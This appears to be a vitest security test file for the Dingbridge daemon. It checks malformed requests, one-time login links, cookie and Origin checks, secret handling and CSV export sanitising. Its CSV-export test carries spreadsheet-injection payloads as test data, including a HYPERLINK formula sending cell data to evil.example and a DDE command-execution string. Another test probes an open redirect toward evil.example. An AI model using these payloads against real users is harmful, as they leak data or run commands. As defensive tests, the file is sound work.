import { spawn } from 'node:child_process';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import type { Api } from '../../electron/contract/client.js';
import type { ContractError } from '../../electron/contract/errors.js';
import { WS_PATH } from '../../electron/contract/ws-protocol.js';
import { startFake, tempDir, until } from '../core/platform/dingtalk/harness.js';
import { startDaemon, type AttackedDaemon } from './daemon.js';
import { rawRequest, upgradeRequest } from './raw-http.js';

let daemon: AttackedDaemon | undefined;
afterEach(async () => daemon?.stop());

/** Still running, still serving its page and the contract. */
async function stillServing(running: AttackedDaemon): Promise<void> {
  expect(running.alive(), running.output()).toBe(true);
  expect([200, 503]).toContain((await rawRequest(running.port, 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n')).status);
  const { api, close } = running.api();
  try {
    expect(await api['app.status']()).toMatchObject({ mode: 'headless' });
  } finally {
    close();
  }
}

/** The status the daemon answers a WebSocket handshake with (101 when it opens). */
function handshake(port: number, headers: Record<string, string>, query = ''): Promise<number> {
  return new Promise((resolve) => {
    const socket = new WebSocket(`ws://127.0.0.1:${port}${WS_PATH}${query}`, { headers });
    socket.on('open', () => {
      socket.close();
      resolve(101);
    });
    socket.on('unexpected-response', (_request, response) => resolve(response.statusCode ?? 0));
    socket.on('error', () => resolve(0));
  });
}

/** Opens a link as a browser would, without following the redirect. */
async function openLink(link: string) {
  const response = await fetch(link, { redirect: 'manual' });
  return {
    status: response.status,
    location: response.headers.get('location'),
    cookie: response.headers.get('set-cookie'),
    cache: response.headers.get('cache-control'),
    text: await response.text(),
  };
}

/** Asks the daemon for a new link as `dingbridge link` does, with `token` in the Authorization header. */
const askForLink = (running: AttackedDaemon, token = running.token, init: RequestInit = {}) =>
  fetch(`${running.origin}/login-link`, { method: 'POST', headers: { Authorization: `Bearer ${token}` }, ...init });

const newLink = async (running: AttackedDaemon) => ((await (await askForLink(running)).json()) as { url: string }).url;

/** `dingbridge <args>` from the sources, to its end. */
function cli(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ['--import', 'tsx', 'electron/daemon/cli.ts', ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk) => (stdout += chunk));
    child.stderr.on('data', (chunk) => (stderr += chunk));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

describe('a web page that cannot know the token', () => {
  it('gets 400 for a path no browser would send (`<img src=".../%ff">`), and the daemon keeps serving', async () => {
    daemon = await startDaemon();
    for (const target of ['/%ff', '/%', '/%E4%B8', '/a%00b', '//a:b/', '/%ff?token=x']) {
      const answer = await rawRequest(daemon.port, `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`);
      expect(answer.status, target).toBe(400);
    }
    await stillServing(daemon);
    expect(daemon.output()).not.toMatch(/Unexpected/);
  });

  it('gets 400 for a WebSocket upgrade with a malformed target, instead of taking the daemon down', async () => {
    daemon = await startDaemon();
    for (const target of ['//a:b', '//[', 'http://[::1', '//a:99999/api', '/%ff', '/api%00']) {
      const answer = await rawRequest(daemon.port, upgradeRequest(target));
      expect(answer.status, target).toBe(400);
      expect(daemon.alive(), `${target}\n${daemon.output()}`).toBe(true);
    }
    await stillServing(daemon);
  });

  it('cannot take the daemon down by resetting the connection in the middle of a WebSocket handshake', async () => {
    daemon = await startDaemon();
    const port = daemon.port;
    for (let round = 0; round < 300; round++) {
      const target = round % 3 === 0 ? '/elsewhere' : WS_PATH;
      await rawRequest(port, upgradeRequest(round % 2 ? target : `${target}?token=wrong`), { reset: true });
    }
    await new Promise((resolve) => setTimeout(resolve, 300));
    await stillServing(daemon);
  });

  it('meets a daemon that logs a mistake nothing caught and keeps serving, instead of dying', async () => {
    daemon = await startDaemon({ imports: ['./test/security/plant-failures.ts'] });
    daemon.process.kill('SIGUSR2');
    const running = daemon;
    await until(() => /planted: a mistake nothing caught/.test(running.output()) && /planted: a failure nothing waited for/.test(running.output()), 'both planted failures logged');
    expect(daemon.output()).toMatch(/Unexpected error; Dingbridge keeps running/);
    await stillServing(daemon);
  });
});

describe('the window’s one-time link, swapped for a cookie', () => {
  it('leaves the address at once: a redirect to the page, with an HttpOnly, SameSite=Strict cookie for the socket only', async () => {
    daemon = await startDaemon();
    expect(daemon.link, 'the printed link does not carry the control token').not.toContain(daemon.token);
    // A link checker's HEAD leaves the link to the person who opens it.
    expect((await fetch(daemon.link, { method: 'HEAD', redirect: 'manual' })).headers.get('set-cookie')).toBeNull();
    const first = await openLink(daemon.link);
    expect(first.status).toBe(303);
    expect(first.location).toBe('/');
    expect(first.cache).toBe('no-store');
    const cookie = first.cookie ?? '';
    expect(cookie).toMatch(new RegExp(`^dingbridge-${daemon.port}=[0-9a-f]{48}; `));
    expect(cookie.split('; ').slice(1).sort()).toEqual(['HttpOnly', `Path=${WS_PATH}`, 'SameSite=Strict']);
    expect(cookie, 'the cookie is not the token itself').not.toContain(daemon.token);

    // The page itself is the same for everyone: only the socket needs the key.
    expect((await rawRequest(daemon.port, 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n')).head).not.toContain(daemon.token);
  });

  it('opens the window once: the same link again, as the browser’s history keeps it, gets no cookie and says how to get another', async () => {
    daemon = await startDaemon();
    expect((await openLink(daemon.link)).cookie).not.toBeNull();
    const again = await openLink(daemon.link);
    expect(again).toMatchObject({ status: 410, location: null, cookie: null, cache: 'no-store' });
    expect(again.text).toContain('This Dingbridge link has already been used, or has expired');
    expect(again.text).toContain('这个 Dingbridge 链接已经用过，或已过期');
    expect(again.text).toContain('dingbridge link');
  });

  it('logs no page in with the control token, nor with a wrong code', async () => {
    daemon = await startDaemon();
    // The token is the CLI's: as a page address it is only the page, and the page gets no key.
    const withToken = await openLink(`${daemon.origin}/?token=${daemon.token}`);
    expect([200, 503]).toContain(withToken.status);
    expect(withToken.cookie).toBeNull();
    for (const code of [daemon.token, '0'.repeat(32), '', 'x'.repeat(5_000)]) {
      const answer = await openLink(`${daemon.origin}/?login=${code}`);
      expect(answer, code.slice(0, 8)).toMatchObject({ status: 410, cookie: null });
    }
    // Never anywhere but the page: `/.//host` must not turn the swap into a way off the daemon.
    const { search } = new URL(daemon.link);
    const sideways = await fetch(`${daemon.origin}/.//evil.example/${search}`, { redirect: 'manual' });
    expect(sideways.headers.get('location')).toBe('/');
  });

  it('gives a new link only to the holder of the token: `dingbridge link` prints one that works once', async () => {
    daemon = await startDaemon();
    expect((await askForLink(daemon, '0'.repeat(daemon.token.length))).status).toBe(401);
    expect((await fetch(`${daemon.origin}/login-link`, { method: 'POST' })).status).toBe(401);
    expect((await askForLink(daemon, daemon.token, { method: 'GET' })).status).toBe(405);
    // The window's cookie is a browser's, for the socket: it mints no links.
    const pair = (await openLink(daemon.link)).cookie?.split(';')[0] ?? '';
    expect((await fetch(`${daemon.origin}/login-link`, { method: 'POST', headers: { Cookie: pair, Origin: daemon.origin } })).status).toBe(401);

    const printed = await cli(['link', '--data-dir', daemon.dataDir]);
    expect(printed.code, printed.stderr).toBe(0);
    const link = /^UI: (http:\/\/127\.0\.0\.1:\d+\/\?login=[\w-]+)$/m.exec(printed.stdout)?.[1] ?? '';
    expect(printed.stdout).toContain('It opens the window once, within 10 minutes.');
    expect(link).toContain(daemon.origin);
    expect(printed.stdout).not.toContain(daemon.token);
    expect((await openLink(link)).cookie).toMatch(new RegExp(`^dingbridge-${daemon.port}=`));
    expect((await openLink(link)).status).toBe(410);
    // Each asks for its own: two links, each good once.
    const [one, two] = [await newLink(daemon), await newLink(daemon)];
    expect(one).not.toBe(two);
    for (const each of [one, two]) expect((await openLink(each)).status).toBe(303);
  });

  it('says when no daemon runs for `dingbridge link`', async () => {
    const dataDir = await tempDir();
    const none = await cli(['link', '--data-dir', dataDir]);
    expect(none.code).toBe(1);
    expect(none.stderr).toContain(`No Dingbridge daemon is running for ${dataDir}`);
  });

  it('opens the socket with the cookie only from the daemon’s own page', async () => {
    daemon = await startDaemon();
    const pair = (await openLink(daemon.link)).cookie?.split(';')[0] ?? '';
    const own = daemon.origin;
    expect(await handshake(daemon.port, { Cookie: pair, Origin: own })).toBe(101);
    expect(await handshake(daemon.port, { Cookie: pair, Origin: `http://localhost:${daemon.port}` })).toBe(101);
    // Another page of the same machine is the same site to a browser, which sends it the cookie: its Origin stops it.
    for (const origin of ['http://127.0.0.1:1', `http://localhost:${daemon.port + 1}`, 'https://evil.example', 'null']) {
      expect(await handshake(daemon.port, { Cookie: pair, Origin: origin }), origin).toBe(403);
    }
    // Without an Origin it is not a browser, and the cookie is a browser's: such clients use the token.
    expect(await handshake(daemon.port, { Cookie: pair })).toBe(401);
    const [name] = pair.split('=');
    expect(await handshake(daemon.port, { Cookie: `${name}=${'0'.repeat(48)}`, Origin: own })).toBe(401);
    expect(await handshake(daemon.port, { Cookie: `other=1; ${pair}`, Origin: own })).toBe(101);
    // The CLI's way in stays as it was.
    expect(await handshake(daemon.port, {}, `?token=${daemon.token}`)).toBe(101);
  });

  it('lets a cookie from an earlier start open nothing: a restarted daemon needs its new link', async () => {
    const dataDir = await tempDir();
    daemon = await startDaemon({ dataDir });
    const earlier = (await openLink(daemon.link)).cookie?.split(';')[0] ?? '';
    const unopened = new URL(await newLink(daemon)).search;
    await daemon.stop();
    daemon = await startDaemon({ dataDir });
    const [, value] = earlier.split('=');
    expect(await handshake(daemon.port, { Cookie: `dingbridge-${daemon.port}=${value}`, Origin: daemon.origin })).toBe(401);
    expect((await openLink(`${daemon.origin}/${unopened}`)).status, 'a link the earlier start made').toBe(410);
    const renewed = (await openLink(daemon.link)).cookie?.split(';')[0] ?? '';
    expect(await handshake(daemon.port, { Cookie: renewed, Origin: daemon.origin })).toBe(101);
  });
});

/** Every cell of an RFC 4180 text, read as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && (char === ',' || char === '\n')) {
      cells.push(cell);
      cell = '';
    } else {
      cell += char;
    }
  }
  return cells;
}

/** The channel's log as CSV, once it holds what `complete` looks for. */
async function exportedOnce(api: Api, complete: (csv: string) => boolean): Promise<string> {
  const deadline = Date.now() + 20_000;
  for (;;) {
    const { content } = await api['log.export']({ channel: 'simulator', format: 'csv' });
    if (complete(content)) return content;
    if (Date.now() > deadline) throw new Error(`The log never held every message:\n${content}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

describe('the log exported as CSV', () => {
  it('keeps chat text from a stranger from becoming a spreadsheet formula', async () => {
    daemon = await startDaemon();
    const { api, close } = daemon.api();
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"details")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
    try {
      await api['simulator.send']({ channel: 'simulator', sender: { staffId: 'wangwu', nick: '=HYPERLINK("http://evil.example","王五")' }, conversation: 'dm', text: formulas[0] ?? '' });
      for (const text of formulas.slice(1)) await api['simulator.send']({ channel: 'simulator', sender: { staffId: 'wangwu', nick: '王五' }, conversation: 'dm', text });
      const csv = await exportedOnce(api, (content) => formulas.every((formula) => content.includes(formula.replace(/"/g, '""').trim())));
      const cells = csvCells(csv);
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(cells).toContain(`'=HYPERLINK("http://evil.example","王五")`);
      expect(cells.some((cell) => cell.startsWith(`'=HYPERLINK("http://evil.example/?"`))).toBe(true);
    } finally {
      close();
    }
  });
});

describe('Test connection on a saved channel', () => {
  it('never sends the saved AppSecret to endpoints other than the saved ones: it asks for the secret again', async () => {
    const fake = await startFake();
    const requests: string[] = [];
    const elsewhere = createServer((request: IncomingMessage, response) => {
      let body = '';
      request.on('data', (chunk) => (body += chunk));
      request.on('end', () => {
        requests.push(`${request.method} ${request.url} ${body}`);
        response.writeHead(200, { 'Content-Type': 'application/json' }).end('{}');
      });
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    const other = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    try {
      const config = { channels: { team: { dingtalk: { clientId: fake.app.clientId, clientSecret: '$TEAM_SECRET', endpoints: fake.endpoints }, enabled: false, cwd: await tempDir(), agent: { preset: 'demo' } } } };
      daemon = await startDaemon({ config, env: { TEAM_SECRET: fake.app.clientSecret } });
      const { api, close } = daemon.api();
      try {
        expect((await api['channels.test']({ clientId: fake.app.clientId, name: 'team', endpoints: fake.endpoints })).ok).toBe(true);
        for (const endpoints of [{ api: other, oapi: other }, { api: fake.endpoints.api, oapi: other }, undefined]) {
          const refused = await api['channels.test']({ clientId: fake.app.clientId, name: 'team', ...(endpoints ? { endpoints } : {}) }).then(
            () => undefined,
            (error: ContractError) => ({ code: error.code, message: error.message, problems: error.problems }),
          );
          expect(refused, JSON.stringify(endpoints)).toMatchObject({
            code: 'invalid_input',
            message: expect.stringMatching(/^Enter the AppSecret again to test other endpoints/),
            problems: [{ path: 'clientSecret', code: 'secret_for_other_endpoints' }],
          });
        }
        expect(requests).toEqual([]);
        // Typed again, it goes where the person says.
        await api['channels.test']({ clientId: fake.app.clientId, clientSecret: 'typed-again', name: 'team', endpoints: { api: other, oapi: other } });
        expect(requests.join('\n')).toContain('typed-again');
        expect(requests.join('\n')).not.toContain(fake.app.clientSecret);
      } finally {
        close();
      }
    } finally {
      elsewhere.closeAllConnections();
      await new Promise((resolve) => elsewhere.close(resolve));
    }
  });
});
